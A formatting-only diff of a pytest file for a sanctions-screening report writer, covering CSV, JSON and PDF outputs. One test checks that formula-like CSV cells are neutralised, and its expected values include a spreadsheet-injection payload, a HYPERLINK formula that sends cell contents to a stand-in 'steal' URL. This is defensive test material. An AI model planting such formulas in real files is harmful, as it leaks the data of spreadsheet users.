@@ -9,8 +9,8 @@ from io import BytesIO
 
 import pytest
 from pypdf import PdfReader
-from report_samples import sample_report
 
+from report_samples import sample_report
 from screening.reports import REPORT_FORMATS, UnknownReportFormatError, write_report
 from screening.reports.cell_safety import csv_safe, is_formula_like
 from screening.reports.csv_report import csv_bytes
@@ -44,8 +44,14 @@ def test_csv_has_every_input_row_with_original_columns_and_result(
     csv_rows: list[dict[str, str]],
 ) -> None:
     assert len(csv_rows) == 20
-    ryonbong = next(r for r in csv_rows if r["Наименование"] == "Korea Ryonbong General Corporation")
-    assert (ryonbong["sheet"], ryonbong["row"], ryonbong["risk_level"]) == ("Поставщики", "6", "critical")
+    ryonbong = next(
+        r for r in csv_rows if r["Наименование"] == "Korea Ryonbong General Corporation"
+    )
+    assert (ryonbong["sheet"], ryonbong["row"], ryonbong["risk_level"]) == (
+        "Поставщики",
+        "6",
+        "critical",
+    )
     assert "un-sc KPe.002" in ryonbong["matches"]
 
 
@@ -60,7 +66,7 @@ def test_csv_cells_that_look_like_formulas_get_an_apostrophe() -> None:
     text = csv_bytes(sample_report("injection.xlsx")).decode("utf-8-sig")
     names = [row["Supplier Name"] for row in csv.DictReader(io.StringIO(text))]
     assert names[:4] == [
-        "'=HYPERLINK(\"http://example.invalid/steal?d=\"&A1,\"click\")",
+        '\'=HYPERLINK("http://example.invalid/steal?d="&A1,"click")',
         "'+SUM(1,2)",
         "'-2+3",
         "'@SUM(1,2)",
@@ -87,7 +93,9 @@ def test_json_has_provenance_summary_rows_and_errors(document: dict[str, object]
 def test_json_rows_key_original_values_by_heading(document: dict[str, object]) -> None:
     rows = document["rows"]
     assert isinstance(rows, list)
-    ryonbong = next(r for r in rows if r["supplier"]["name"] == "Korea Ryonbong General Corporation")
+    ryonbong = next(
+        r for r in rows if r["supplier"]["name"] == "Korea Ryonbong General Corporation"
+    )
     assert ryonbong["values"]["Наименование"] == "Korea Ryonbong General Corporation"
     assert ryonbong["matches"][0]["source_id"] == "KPe.002"
 
